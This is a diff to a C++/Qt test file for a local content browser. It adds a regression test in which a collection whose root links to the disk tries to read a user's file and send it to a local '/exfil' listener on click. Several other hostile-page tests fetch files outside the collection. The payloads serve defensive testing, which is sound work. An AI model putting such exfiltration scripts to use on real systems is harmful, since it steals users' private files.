@@ -1,8 +1,11 @@
+#include "Collection.h"
+#include "CollectionWriter.h"
 #include "ContentAddress.h"
 #include "LocalWebServer.h"
 #include "PageBrowser.h"
 #include "PageTestSupport.h"
 
+#include <QDir>
 #include <QFile>
 #include <QSignalSpy>
 #include <QTest>
@@ -16,9 +19,9 @@
 namespace corvanel {
 namespace {
 
-using testing::ContentFolder;
 using testing::kPageTimeoutMs;
 using testing::LocalWebServer;
+using testing::PageFolder;
 using testing::pngPicture;
 using testing::readingPage;
 using testing::titleOnceItStartsWith;
@@ -51,7 +54,7 @@ QStringList openedAfterAQuietMoment(const QSignalSpy& opened) {
 // A browser for content's collection, shown so that it takes input.
 class ShownBrowser {
 public:
-    explicit ShownBrowser(const ContentFolder& content) {
+    explicit ShownBrowser(const PageFolder& content) {
         browser.setContentRootSource([root = content.root()] { return root; });
         browser.resize(400, 300);
         browser.show();
@@ -59,7 +62,7 @@ public:
     }
 
     // Loads a page of textos/ and waits until it is shown.
-    void open(const ContentFolder& content, const QString& page) {
+    void open(const PageFolder& content, const QString& page) {
         QSignalSpy loaded(&browser, &QWebEngineView::loadFinished);
         browser.Navigate(ContentAddress::pageAddress(content.root(), page));
         ASSERT_TRUE(loaded.wait(kPageTimeoutMs));
@@ -88,7 +91,7 @@ class ScriptedAttempts : public ::testing::TestWithParam<ScriptAttempt> {};
 TEST_P(ScriptedAttempts, OpenNothingAndLeaveNothing) {
     LocalWebServer web;
     const QString server = web.address(QString());
-    ContentFolder content;
+    PageFolder content;
     content.write(QStringLiteral("ataque.htm"),
                   utf8(u"<!DOCTYPE html><html><head><meta charset='utf-8'>" +
                        QString::fromUtf16(GetParam().head).replace(QStringLiteral("%1"), server) +
@@ -134,7 +137,7 @@ INSTANTIATE_TEST_SUITE_P(
 // A page that waits for any click, then goes on its own.
 TEST(HostilePages, AClickAnywhereLetsNoLaterScriptThrough) {
     LocalWebServer web;
-    ContentFolder content;
+    PageFolder content;
     content.write(QStringLiteral("espera.htm"),
                   utf8(u"<!DOCTYPE html><html><head><title>inicio</title><style>"
                        u"body { margin: 0; height: 100vh; }</style></head><body>texto<script>"
@@ -162,7 +165,7 @@ TEST(HostilePages, AClickAnywhereLetsNoLaterScriptThrough) {
 
 TEST(HostilePages, OneClickOpensOneAddress) {
     LocalWebServer web;
-    ContentFolder content;
+    PageFolder content;
     content.write(QStringLiteral("dupla.htm"),
                   utf8(u"<!DOCTYPE html><html><head><style>a { position: absolute; top: 0;"
                        u"left: 0; width: 200px; height: 40px; display: block; }</style></head>"
@@ -183,7 +186,7 @@ TEST(HostilePages, OneClickOpensOneAddress) {
 TEST(HostilePages, EnterOnALinkTheUserChoseStillOpensTheWeb) {
     LocalWebServer web;
     const QString law = web.address(QStringLiteral("/lei.htm"));
-    ContentFolder content;
+    PageFolder content;
     content.write(QStringLiteral("L01.htm"),
                   utf8(u"<!DOCTYPE html><html><body><a id='lei' href='" + law +
                        u"'>Lei</a><script>document.getElementById('lei').focus();"
@@ -206,7 +209,7 @@ TEST(HostilePages, EnterOnALinkTheUserChoseStillOpensTheWeb) {
 // one to another program go nowhere, mail goes to the mail program, and one
 // within the collection is followed.
 TEST(HostilePages, AClickedLinkLeadsOnlyToTheCollectionTheWebOrMail) {
-    ContentFolder content;
+    PageFolder content;
     const QString outside =
         content.writeOutside(QStringLiteral("fora.htm"), "<title>fora</title>SEGREDO");
     content.write(QStringLiteral("destino.htm"), "<title>Chegou</title>");
@@ -244,15 +247,15 @@ TEST(HostilePages, AClickedLinkLeadsOnlyToTheCollectionTheWebOrMail) {
 }
 
 TEST(HostilePages, APageReadsNothingOutsideItsCollection) {
-    ContentFolder content;
+    PageFolder content;
     const QString secret = content.writeOutside(QStringLiteral("segredo.txt"), "SEGREDO");
     const QString secretFrame =
         content.writeOutside(QStringLiteral("segredo.htm"), "<body>SEGREDO</body>");
     const QString picture = content.writeOutside(QStringLiteral("figura.png"), pngPicture());
-    ContentFolder::writeFile(content.root() + QStringLiteral("dados/lista.txt"), "DENTRO");
-    ContentFolder::writeFile(content.root() + QStringLiteral("dados/quadro.htm"),
-                             "<body>DENTRO</body>");
-    ContentFolder::writeFile(content.root() + QStringLiteral("figuras/f.png"), pngPicture());
+    PageFolder::writeFile(content.root() + QStringLiteral("dados/lista.txt"), "DENTRO");
+    PageFolder::writeFile(content.root() + QStringLiteral("dados/quadro.htm"),
+                          "<body>DENTRO</body>");
+    PageFolder::writeFile(content.root() + QStringLiteral("figuras/f.png"), pngPicture());
     content.write(QStringLiteral("buscador.js"),
                   "onmessage = function (e) { fetch(e.data).then(function (r) { return r.text(); })"
                   ".then(function (t) { postMessage(t.trim() || 'vazio'); },"
@@ -299,6 +302,55 @@ TEST(HostilePages, APageReadsNothingOutsideItsCollection) {
                              "dentroWorker:DENTRO fora:falhou foraBlob:falhou foraFetch:falhou "
                              "foraImagem:bloqueada foraQuadro:semCarga foraWorker:falhou "
                              "sistema:falhou sistemaFetch:falhou subindo:falhou"));
+}
+
+// A received collection whose stored root has no closing separator and
+// ends in a link to the root of the disk: "x" + "labels.dat" once found the
+// sibling "xlabels.dat", and the whole disk became the collection. Its start
+// page reads a file of the user's and, on the first click, leads to a
+// listener with the contents in the address.
+TEST(HostilePages, AReceivedCollectionsRootLinkedToTheDiskReadsAndSendsNothing) {
+    LocalWebServer web;
+    QTemporaryDir place;
+    const QDir received(place.path());
+    const QString secret = place.filePath(QStringLiteral("segredo.txt"));
+    PageFolder::writeFile(secret, "SEGREDO-DO-USUARIO");
+    ASSERT_TRUE(QFile::link(QStringLiteral("/"), received.filePath(QStringLiteral("x"))));
+    PageFolder::writeFile(received.filePath(QStringLiteral("xlabels.dat")), "");
+    PageFolder::writeFile(
+        received.filePath(QStringLiteral("xentrada2.htm")),
+        utf8(u"<!DOCTYPE html><html><head><title>inicio</title><style>"
+             u"a { position: absolute; left: 0; top: 0; width: 400px; height: 300px; "
+             u"display: block; }</style></head><body><a id='a' href='#'>entrar</a><script>"
+             u"var x = new XMLHttpRequest(); x.open('GET', '" +
+             QUrl::fromLocalFile(secret).toString() +
+             u"');"
+             u"x.onload = function () { document.getElementById('a').href = '" +
+             web.address(QStringLiteral("/exfil?d=")) +
+             u"' + encodeURIComponent(x.responseText); document.title = 'pronta'; };"
+             u"x.send();</script></body></html>"));
+    collection::writeCollection(received.filePath(QStringLiteral("db3.mdb")), {},
+                                received.filePath(QStringLiteral("x")));
+    UserBrowser desktop = everyScheme();
+    QSignalSpy opened(&desktop, &UserBrowser::opened);
+
+    const ContentFolder folder = Collection::open(place.path()).contentFolder();
+    EXPECT_FALSE(folder.contains(QUrl::fromLocalFile(secret)));
+    PageBrowser browser;
+    browser.setContentRootSource([root = folder.rootText()] { return root; });
+    browser.resize(400, 300);
+    browser.show();
+    ASSERT_TRUE(QTest::qWaitForWindowExposed(&browser));
+    QSignalSpy loaded(&browser, &QWebEngineView::loadFinished);
+    browser.Navigate(ContentAddress::startPageAddress(folder.rootText()));
+    ASSERT_TRUE(loaded.wait(kPageTimeoutMs));
+    // Time to read, had the page been let read.
+    static_cast<void>(QTest::qWaitFor([&] { return browser.title() == u"pronta"; }, kQuietMs));
+    ASSERT_NE(browser.focusProxy(), nullptr);
+    QTest::mouseClick(browser.focusProxy(), Qt::LeftButton, {}, QPoint(200, 150));
+
+    EXPECT_EQ(openedAfterAQuietMoment(opened), QStringList());
+    EXPECT_TRUE(web.requests.isEmpty()) << web.requests.join(u' ').toStdString();
 }
 
 }  // namespace
